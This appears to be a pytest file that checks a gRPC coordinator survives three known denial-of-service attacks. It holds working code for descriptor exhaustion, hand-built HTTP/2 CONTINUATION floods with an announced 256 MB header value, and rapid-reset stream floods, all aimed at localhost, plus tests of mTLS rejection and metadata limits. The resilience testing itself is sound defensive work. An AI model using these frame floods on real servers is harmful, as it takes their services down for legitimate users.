"""What the libgrpc of Debian 12 is known to be weak at: afterwards the server serves, and strangers do not get that far.

The frames are HTTP/2 by hand: a well-behaved client cannot send them."""

from __future__ import annotations

import contextlib
import itertools
import resource
import socket
import struct
from collections.abc import Callable, Iterator
from pathlib import Path

import grpc
import pytest
from conftest import BUILD
from grpc_health.v1 import health_pb2, health_pb2_grpc
from secure_coordinator import Authority, SecureCoordinator, call, is_let_in, until

COORDINATOR = BUILD / "bin" / "saga-coordinator"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0x1, 0x3, 0x4, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4
MEMORY_MAX_KB = 300_000


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A header without indexing and without Huffman; both texts are short."""
    return bytes([0x00, len(name)]) + name + bytes([len(value)]) + value


CALL = b"".join(literal(name, value) for name, value in (
    (b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/grpc.health.v1.Health/Check"), (b":authority", b"x"),
    (b"content-type", b"application/grpc"), (b"te", b"trailers")))


@contextlib.contextmanager
def raw_connection(port: int) -> Iterator[socket.socket]:
    with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
        yield connection


def is_serving(address: str) -> bool:
    """Over a connection of its own."""
    with grpc.insecure_channel(address) as channel:
        try:
            health_pb2_grpc.HealthStub(channel).Check(health_pb2.HealthCheckRequest(), timeout=2)
        except grpc.RpcError:
            return False
        return True


def memory_kb(pid: int) -> int:
    fields = dict(line.split(":", 1) for line in Path(f"/proc/{pid}/status").read_text().splitlines())
    return int(fields["VmRSS"].split()[0])


def send_until_closed(connection: socket.socket, parts: Iterator[bytes]) -> int:
    """How many parts went out before the server had enough."""
    sent = 0
    for part in parts:
        try:
            connection.sendall(part)
        except OSError:
            return sent
        sent += 1
    return sent


@pytest.fixture
def coordinator(tmp_path: Path) -> Iterator[SecureCoordinator]:
    with SecureCoordinator(COORDINATOR, tmp_path, "--watchdog-ms", "1000", limits="ulimit -n 200") as coordinator:
        until(lambda: is_serving(coordinator.address), "serving")
        yield coordinator


def serves_again(coordinator: SecureCoordinator) -> None:
    """By itself, or because the watchdog ended the process and a supervisor started it again."""
    until(lambda: not coordinator.restart_if_ended() and is_serving(coordinator.address), "serving again", 60)
    assert memory_kb(coordinator.child.pid) < MEMORY_MAX_KB


# ---- the attacks -----------------------------------------------------------------------------------------------------------


def exhaust_descriptors(port: int) -> None:
    """CVE-2023-4785: accept() fails once, and the listener is dead for ever."""
    with contextlib.ExitStack() as connections:
        for _ in range(300):
            with contextlib.suppress(OSError):
                connections.enter_context(socket.create_connection(("127.0.0.1", port), timeout=1))


def send_endless_header_values(port: int) -> None:
    """CVE-2023-33953: header values that never end, in as many frames as one likes."""
    endless = bytes([0x00, 1]) + b"x" + bytes([0x7F]) + b"\xff\xff\xff\x7f"  # a value of 256 MB is announced
    with raw_connection(port) as connection:
        parts = itertools.chain([frame(HEADERS, END_STREAM, 1, CALL + endless)],
                                (frame(CONTINUATION, 0, 1, b"v" * 16000) for _ in range(1000)),
                                (frame(CONTINUATION, 0, 1, b"v") for _ in range(10000)))
        send_until_closed(connection, parts)


def reset_rapidly(port: int) -> None:
    """CVE-2023-44487: calls that are taken back as soon as they are made."""
    with raw_connection(port) as connection:
        send_until_closed(connection, (
            frame(HEADERS, END_HEADERS, 2 * number + 1, CALL) + frame(RST_STREAM, 0, 2 * number + 1, struct.pack(">I", 8))
            for number in range(20000)))


@pytest.mark.parametrize("attack", [exhaust_descriptors, send_endless_header_values, reset_rapidly], ids=lambda attack: attack.__name__)
def test_an_attack_from_this_machine_does_not_end_service(coordinator: SecureCoordinator, attack: Callable[[int], None]) -> None:
    assert resource.getrlimit(resource.RLIMIT_NOFILE)[0] > 400
    attack(coordinator.port)
    serves_again(coordinator)


@pytest.mark.parametrize("attack", [send_endless_header_values, reset_rapidly], ids=lambda attack: attack.__name__)
def test_strangers_do_not_get_as_far_as_http2(tmp_path: Path, attack: Callable[[int], None]) -> None:
    """Beyond loopback clients need a certificate: the same frames are no handshake, and others notice nothing."""
    authority = Authority(tmp_path)
    server, client = authority.issue("server", "IP:127.0.0.1"), authority.issue("client", "DNS:client")
    access = tmp_path / "access"
    access.write_text("certificate client viewer client\n")
    flags = ["--tls-cert", server[0], "--tls-key", server[1], "--tls-client-ca", authority.certificate, "--access-file", access]
    credentials = grpc.ssl_channel_credentials(authority.certificate.read_bytes(), client[1].read_bytes(), client[0].read_bytes())
    with SecureCoordinator(COORDINATOR, tmp_path, *map(str, flags), "--watchdog-ms", "1000") as coordinator:
        with grpc.secure_channel(coordinator.address, credentials) as channel:
            assert is_let_in(call(channel))
            for _ in range(3):
                attack(coordinator.port)
                assert is_let_in(call(channel))
        with grpc.secure_channel(coordinator.address, credentials) as channel:
            assert is_let_in(call(channel))
        assert coordinator.child.poll() is None and not coordinator.said("watchdog_missed")


def test_metadata_beyond_8_kb_is_refused(coordinator: SecureCoordinator) -> None:
    with grpc.insecure_channel(coordinator.address) as channel:
        with pytest.raises(grpc.RpcError) as caught:
            health_pb2_grpc.HealthStub(channel).Check(health_pb2.HealthCheckRequest(), timeout=5, metadata=[("x", "y" * 9000)])
        assert caught.value.code() == grpc.StatusCode.RESOURCE_EXHAUSTED
    assert is_serving(coordinator.address)
